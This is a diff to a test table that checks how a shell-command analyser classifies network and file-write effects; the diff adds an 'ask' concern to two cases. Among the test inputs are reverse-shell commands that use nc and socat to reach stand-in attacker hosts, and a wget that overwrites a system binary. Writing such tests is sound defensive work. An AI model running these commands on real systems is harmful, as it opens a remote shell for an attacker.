@@ -10,7 +10,7 @@ const cases: Case[] = [
   { line: 'curl "$URL"', commands: ['curl "$URL"'], effects: ['network:'] },
   { line: 'wget -q https://dl.x.io/a.tgz', commands: ['wget -q https://dl.x.io/a.tgz'], effects: ['network:dl.x.io'] },
   { line: 'wget -O /usr/bin/tool http://x.io/t', commands: ['wget -O /usr/bin/tool http://x.io/t'], effects: ['network:x.io', 'write:/usr/bin/tool'] },
-  { line: 'nc -e /bin/sh attacker.io 4444', commands: ['nc -e /bin/sh attacker.io 4444'], effects: ['network:attacker.io'] },
+  { line: 'nc -e /bin/sh attacker.io 4444', commands: ['nc -e /bin/sh attacker.io 4444'], effects: ['network:attacker.io'], concerns: ['dynamic-command:ask'] },
   { line: 'ncat 10.0.0.5 80', commands: ['ncat 10.0.0.5 80'], effects: ['network:10.0.0.5'] },
   { line: 'socat TCP:evil.net:443 EXEC:/bin/bash', commands: ['socat TCP:evil.net:443 EXEC:/bin/bash'], effects: ['network:evil.net'] },
   { line: 'ssh -i key.pem -p 2222 deploy@prod.example.com uptime', commands: ['ssh -i key.pem -p 2222 deploy@prod.example.com uptime'], effects: ['network:prod.example.com'] },
@@ -57,7 +57,7 @@ const cases: Case[] = [
   { line: 'cargo build', commands: ['cargo build'], effects: [] },
   // Containers
   { line: 'docker pull ghcr.io/org/img:1', commands: ['docker pull ghcr.io/org/img:1'], effects: ['network:ghcr.io'] },
-  { line: 'docker run --rm node:20 node -v', commands: ['docker run --rm node:20 node -v'], effects: ['network:docker.io'] },
+  { line: 'docker run --rm node:20 node -v', commands: ['docker run --rm node:20 node -v'], effects: ['network:docker.io'], concerns: ['dynamic-command:ask'] },
   { line: 'docker push registry.corp:5000/app', commands: ['docker push registry.corp:5000/app'], effects: ['network:registry.corp'] },
   { line: 'docker ps', commands: ['docker ps'], effects: [] },
   // Language one-liners
